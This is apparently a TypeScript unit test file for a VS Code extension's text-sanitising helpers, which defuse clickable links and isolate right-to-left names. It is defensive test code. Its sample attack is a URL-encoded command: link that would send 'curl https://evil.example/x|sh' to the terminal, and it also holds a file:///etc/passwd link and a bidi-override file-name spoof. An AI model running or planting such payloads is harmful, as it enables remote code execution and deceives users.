import * as assert from 'assert';
import { FSI, PDI, defuseLinks, isolate, stripBidiControls } from '../../src/core/messages/safeText';

// VS Code's link syntax for notifications and input-box messages, as in vs/base/common/linkedText.ts
// (the same in the code-server 4.139.1 workbench the browser test runs).
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_LINK)].map((match) => match[2]);

describe('Text from a server or an org, beside our own words', () => {
  describe('defuseLinks', () => {
    const attack = '[Zoho needs you to sign in again: click here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%2Fx%7Csh%5Cn%22%7D)';

    it('leaves no command: link in the sign-in lure, and keeps its words', () => {
      assert.deepStrictEqual(links(attack).length, 1, 'the parser copy finds the link before');
      const safe = defuseLinks(`Your Zoho user may not read territories (Zoho: "${attack}").`);
      assert.deepStrictEqual(links(safe), []);
      assert.ok(safe.includes('[Zoho needs you to sign in again: click here] (command:workbench'), safe);
    });

    it('leaves no https: or file: link, nested or repeated', () => {
      for (const text of [
        '[x](https://evil)',
        '[[x](https://evil)](command:a)',
        '[x]](command:a)',
        '[x]((command:a)',
        '[a](file:///etc/passwd "title") and [b](HTTPS://evil) and [c](command:x "t")',
        '[x]\n(command:a)',
        defuseLinks('[x](command:a)'),
      ]) {
        const safe = defuseLinks(text);
        // VS Code turns line breaks into spaces before parsing: check that form too.
        assert.deepStrictEqual([...links(safe), ...links(safe.replace(/\r\n|\n|\r/g, ' '))], [], text);
      }
    });

    it('changes ordinary text not at all', () => {
      for (const text of ['Chennai: 2 users (+1)', 'Exported 12 territories to territories.csv.', 'Chennai [old] (renamed)', 'f(x) = [a, b]', '']) {
        assert.strictEqual(defuseLinks(text), text);
      }
    });
  });

  describe('isolate', () => {
    it('wraps a right-to-left name in FSI … PDI', () => {
      assert.strictEqual(isolate('الشرق الأوسط'), `${FSI}الشرق الأوسط${PDI}`);
      assert.strictEqual(isolate('תל אביב–יפו'), `${FSI}תל אביב–יפו${PDI}`);
      assert.strictEqual(isolate('Sales 𐤀'), `${FSI}Sales 𐤀${PDI}`);
    });

    it('strips the name\'s own bidi controls, so it cannot close the isolate or override what follows', () => {
      assert.strictEqual(isolate('Sales \u202edm.exe'), 'Sales dm.exe');
      assert.strictEqual(isolate('الشرق\u2069\u202e x'), `${FSI}الشرق x${PDI}`);
      assert.strictEqual(stripBidiControls('a\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069b'), 'ab');
    });

    it('leaves a left-to-right name as it is', () => {
      for (const name of ['Chennai', 'München', '東京', '123', '']) {
        assert.strictEqual(isolate(name), name);
      }
    });
  });
});
